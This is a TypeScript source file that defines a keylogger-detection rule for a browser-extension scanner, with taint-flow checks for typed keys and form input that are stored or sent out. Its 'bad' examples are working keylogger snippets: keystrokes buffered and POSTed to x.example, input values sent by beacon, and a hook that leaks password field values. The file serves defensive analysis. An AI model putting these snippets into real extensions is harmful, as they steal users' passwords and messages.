import {
  apiPath,
  argsOf,
  bindingOf,
  calleeOf,
  callsOf,
  constant,
  DEF_SIZE,
  definedBinding,
  definedValue,
  defsOf,
  listedValuesOf,
  nameOf,
  Op,
  opOf,
  pairsOf,
  propertyOf,
  type ScriptFacts,
} from '../../facts/javascript/query.ts';
import type { Facts } from '../../facts.ts';
import { scriptsOfAllSites } from '../../facts/extension/scriptsOfAllSites.ts';
import { PROMPT_ANSWER } from '../../extension/promptAnswers.ts';
import { isOfOwnField } from '../../extension/isOfOwnField.ts';
import type { Flow } from '../../taint/flow.ts';
import { flowsOf } from '../../extension/flowsOf.ts';
import { staysInInterface } from '../../verdict/staysInInterface.ts';
import { isOwnComputer } from '../../ownComputer.ts';
import { hitsOfFlows, type Weight } from '../../taint/hits.ts';
import type { SourceKind } from '../../taint/kinds.ts';
import { asksServers } from './asksServers.ts';
import { sendingWeight } from '../../verdict/sendingWeight.ts';
import { defineRule } from '../../rule.ts';
import { checkScripts, contentExample } from './checkScripts.ts';
import { listenersOf } from './listeners.ts';
import { runsInPages } from './places.ts';
import { flowOut } from './flowOut.ts';
import { readsBetween } from './readsBetween.ts';
import { usageOf } from '../../program/usage.ts';
import { functionOf } from '../../program/functionOf.ts';
import { callsWithin } from '../../program/callsWithin.ts';
import { first } from '../../facts/first.ts';
import { say } from '../../../texts/say.ts';
import type { Told } from '../../../model/told.ts';

const KEYS: ReadonlySet<string> = new Set(['key', 'keyCode', 'which', 'charCode', 'code', 'data']);
const VALUES: ReadonlySet<string> = new Set(['value', 'innerText', 'textContent', 'data', 'key', 'keyCode', 'which']);

const TYPED: ReadonlySet<SourceKind> = new Set<SourceKind>(['keys', 'form-input']);

export const keyLogging = defineRule({
  id: 'key-logging',
  title: 'Keylogger: records what is typed in web pages',
  severity: 'high',
  confidence: 'high',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-359',
  references: ['https://attack.mitre.org/techniques/T1056/001/'],
  why: 'Passwords, messages and card numbers are typed into pages. A script that listens to every key and stores or sends what it hears records all of them.',
  remedy: 'Listen only in your own fields or for the shortcuts you need. Do not store or send what was typed.',
  *check(facts) {
    yield* recorded(facts);
    yield* hitsOfFlows(facts.whole(flowsOf).flows, (flow) => weighKeys(facts, flow));
  },
  examples: {
    bad: [
      contentExample(
        'let buffer = ""; document.addEventListener("keydown", (e) => { buffer += e.key; }); setInterval(() => { fetch("https://x.example/k", { method: "POST", body: buffer }); buffer = ""; }, 5000);',
      ),
      contentExample(
        'const keys = []; window.onkeypress = function (e) { keys.push(String.fromCharCode(e.which)); if (keys.length > 20) chrome.runtime.sendMessage({ keys: keys.join("") }); };',
      ),
      contentExample(
        'document.addEventListener("input", (e) => { navigator.sendBeacon("https://x.example/i", e.target.value); }, true);',
      ),
      contentExample(
        'var log = ""; $(document).on("keyup", function (e) { log += e.key; chrome.storage.local.set({ log: log }); });',
      ),
      contentExample(
        'const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value"); Object.defineProperty(HTMLInputElement.prototype, "value", { get() { const v = d.get.call(this); if (this.type === "password") window.postMessage({ v }, "*"); return v; }, set(v) { d.set.call(this, v); } });',
      ),
    ],
    good: [
      contentExample(
        'document.addEventListener("change", (e) => { if (e.target.matches("#mine-toggle")) chrome.storage.local.set({ on: e.target.checked }); });',
      ),
      contentExample(
        'Object.defineProperty(HTMLInputElement.prototype, "value", { get() { return d.get.call(this); }, set(v) { d.set.call(this, v); this.classList.toggle("filled", v !== ""); } });',
      ),
      contentExample('document.addEventListener("keydown", (e) => { if (e.key === "Escape") close(); });'),
      contentExample(
        'document.addEventListener("keydown", (e) => { if (e.ctrlKey && e.key === "k") chrome.runtime.sendMessage({ open: true }); });',
      ),
      contentExample(
        'const box = document.createElement("input"); box.addEventListener("input", (e) => { fetch("https://x.example/search?q=" + box.value); });',
      ),
      contentExample(
        'let last = ""; window.addEventListener("keydown", (e) => { last = e.key; if (last === "g") scrollTo(0, 0); });',
      ),
    ],
  },
});

/** What a script does with keys, as far as it is seen in the script itself. */
const recorded = checkScripts(function* ({ script, file, facts, hit }) {
  if (!runsInPages(facts, file.path)) return;
  for (const call of first(callsOf(script, 'Object.defineProperty', 'Reflect.defineProperty'))) {
    if (
      !/^HTML(Input|TextArea)Element\.prototype$/.test(apiPath(script, call.args[0] ?? 0) ?? '') ||
      constant(script, call.args[1] ?? 0) !== 'value'
    )
      continue;
    const passesOn = ['get', 'set'].some((name) => {
      const fn = functionOf(script, propertyOf(script, call.args[2] ?? 0, name));
      return (
        fn !== undefined &&
        callsWithin(script, fn, 1).some((inner) =>
          /^(postMessage|dispatchEvent|sendMessage|sendBeacon|fetch|send)$/.test(nameOf(script, inner.callee)),
        )
      );
    });
    if (passesOn) yield hit(call.value, { message: say('every-field-watched') });
  }
  for (const listener of first(
    listenersOf(script, 'keydown', 'keyup', 'keypress', 'input', 'beforeinput', 'change', 'focusout').filter(
      (one) => one.everywhere,
    ),
  )) {
    const fn = script.functions[listener.fn];
    if (fn === undefined) continue;
    const typed = readsBetween(script, fn.start, fn.end, listener.event.startsWith('key') ? KEYS : VALUES);
    if (listener.event.startsWith('key'))
      for (const value of readsBetween(script, fn.start, fn.end, new Set(['value']))) typed.add(value);
    const flow = flowOut(facts, script, TYPED, fn, 'network');
    const out = flow === undefined ? flowOut(facts, script, TYPED, fn, 'message', 'storage-write') : undefined;
    // By the table of sendings: to a server that the person set it is their own doing.
    const severity = flow === undefined ? undefined : sendingWeight(facts, flow)?.severity;
    if (flow !== undefined && (severity === undefined || severity === 'low')) continue;
    if (flow !== undefined && severity !== undefined)
      yield hit(listener.value, {
        severity,
        message: sentTo(flow.sink.to),
      });
    else if (out === undefined) continue;
    else if (gathers(script, typed))
      yield hit(listener.value, {
        message: out.sink.kind === 'message' ? say('typed-to-background') : say('typed-stored'),
      });
    else
      yield hit(listener.value, {
        severity: 'low',
        confidence: 'low',
        message: say('single-keys'),
      });
  }
});

/** Keys that are kept, or handed to a program on this computer, by their whole way through the extension. */
function weighKeys(facts: Facts, flow: Flow): Weight | undefined {
  const everywhere = facts.whole(scriptsOfAllSites);
  const { source, sink, unit, checked, stored } = flow;
  const kept = sink.kind === 'storage-write';
  // What fields hold is kept by managers of forms and passwords, too.
  if (
    source.kind === 'form-input' &&
    // What is asked for in a dialog is no field of the page's; what is sent of it others tell.
    source.label !== PROMPT_ANSWER &&
    kept &&
    everywhere.has(source.unit.file.path) &&
    !checked &&
    !isOfOwnField(source) &&
    !staysInInterface(flow, source.unit)
  )
    return {
      // An extension that asks no server has nobody to give it to: that is what keeps forms for the person.
      severity: facts.whole(asksServers) ? 'high' : 'medium',
      confidence: 'medium',
      message: say('fields-stored'),
    };
  if (source.kind !== 'keys' || checked) return undefined;
  // Carried out of the page to be read elsewhere; what a page's own console shows may be left from writing the code.
  if (sink.kind === 'log' && unit !== source.unit && everywhere.has(source.unit.file.path))
    return {
      severity: 'high',
      confidence: 'medium',
      message: say('keys-to-background'),
    };
  if (!kept && !(sink.kind === 'network' && sink.to !== undefined && isOwnComputer(sink.to))) return undefined;
  return {
    severity: 'critical',
    confidence: stored ? 'medium' : 'high',
    message: kept ? say('keys-stored') : say('keys-sent-to-local-program', sink.to?.slice(0, 80) ?? ''),
  };
}

/** What is typed is joined to what was typed before. */
function gathers(script: ScriptFacts, typed: ReadonlySet<number>): boolean {
  const joins = (value: number, depth: number): boolean => {
    if (depth > 6) return false;
    if (typed.has(value)) return true;
    const op = opOf(script, value);
    const parts =
      op === Op.concat || op === Op.choice || op === Op.array
        ? listedValuesOf(script, value)
        : op === Op.object
          ? pairsOf(script, value).filter((_, at) => at % 2 === 1)
          : op === Op.call && apiPath(script, calleeOf(script, value)) !== undefined
            ? argsOf(script, value)
            : op === Op.ref
              ? [...defsOf(script, bindingOf(script, value))].slice(0, 4)
              : [];
    return parts.some((one) => joins(one, depth + 1));
  };
  for (const values of usageOf(script).filled.values()) if (values.some((value) => joins(value, 0))) return true;
  // `buffer += e.key`
  for (let at = 0; at < script.defs.length; at += DEF_SIZE) {
    const value = definedValue(script, at);
    if (opOf(script, value) !== Op.concat) continue;
    if (
      listedValuesOf(script, value).some(
        (part) => opOf(script, part) === Op.ref && bindingOf(script, part) === definedBinding(script, at),
      ) &&
      joins(value, 0)
    )
      return true;
  }
  return false;
}

/** Where the address is not seen at all, only that it goes. */
const sentTo = (to: string | undefined): Told =>
  to === undefined || /^\**$/.test(to) ? say('typed-sent-server') : say('typed-sent-to', to);
